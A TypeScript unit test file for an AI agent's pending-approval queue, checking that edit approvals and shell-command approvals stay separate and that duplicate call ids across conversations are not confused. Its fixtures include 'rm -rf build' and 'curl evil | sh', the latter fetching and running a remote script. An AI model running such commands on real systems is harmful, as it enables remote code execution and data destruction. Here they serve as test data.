import { strict as assert } from 'node:assert';
import { PendingApprovals } from '../../../../src/core/agent/pendingDecisions';
import type { ApprovalDecision } from '../../../../src/core/tools/approval';

describe('PendingApprovals', () => {
  const edit = { kind: 'edit' as const, tool: 'Write', path: 'a.ts', before: undefined, after: 'x' };
  const command = { kind: 'command' as const, command: 'rm -rf build', cwd: '/w' };

  it('the Accept/Reject commands never decide a waiting shell command', async () => {
    const approvals = new PendingApprovals();
    const counts: number[] = [];
    approvals.onChange = (n) => counts.push(n);
    const signal = new AbortController().signal;
    let commandDecision: ApprovalDecision | undefined;
    void approvals.request(command, { callId: 'c1' }, signal).then((d) => { commandDecision = d; });
    assert.equal(approvals.decideLatestEdit({ decision: 'accepted' }), false);
    await Promise.resolve();
    assert.equal(commandDecision, undefined, 'the command is still waiting for its own card');
    assert.deepEqual(counts, [0], 'a waiting command does not light up the diff commands');
    assert.equal(approvals.size, 1);
    assert.ok(approvals.decide('c1', { decision: 'rejected' }));
  });

  it('two conversations\' calls with one id: the second is not asked, so a click never decides the other conversation\'s call (spec §16)', async () => {
    const approvals = new PendingApprovals();
    const signal = new AbortController().signal;
    let first: ApprovalDecision | undefined;
    void approvals.request(command, { callId: 'call_0' }, signal).then((d) => { first = d; });
    const second = await approvals.request({ ...command, command: 'curl evil | sh' }, { callId: 'call_0' }, signal);
    assert.equal(second.decision, 'rejected');
    assert.match(second.feedback ?? '', /another conversation is waiting/);
    assert.equal(approvals.size, 1);
    assert.ok(approvals.decide('call_0', { decision: 'accepted' }));
    await Promise.resolve();
    assert.deepEqual(first, { decision: 'accepted' }, 'the click decided the call it was shown for');
  });

  it('they decide the most recent edit, even when a command was asked for after it', async () => {
    const approvals = new PendingApprovals();
    const counts: number[] = [];
    approvals.onChange = (n) => counts.push(n);
    const signal = new AbortController().signal;
    const editDecision = approvals.request(edit, { callId: 'e1' }, signal);
    void approvals.request(command, { callId: 'c1' }, signal);
    assert.ok(approvals.decideLatestEdit({ decision: 'accepted' }));
    assert.deepEqual(await editDecision, { decision: 'accepted' });
    assert.deepEqual(counts, [1, 1, 0]);
    assert.equal(approvals.size, 1, 'the command still waits');
  });
});
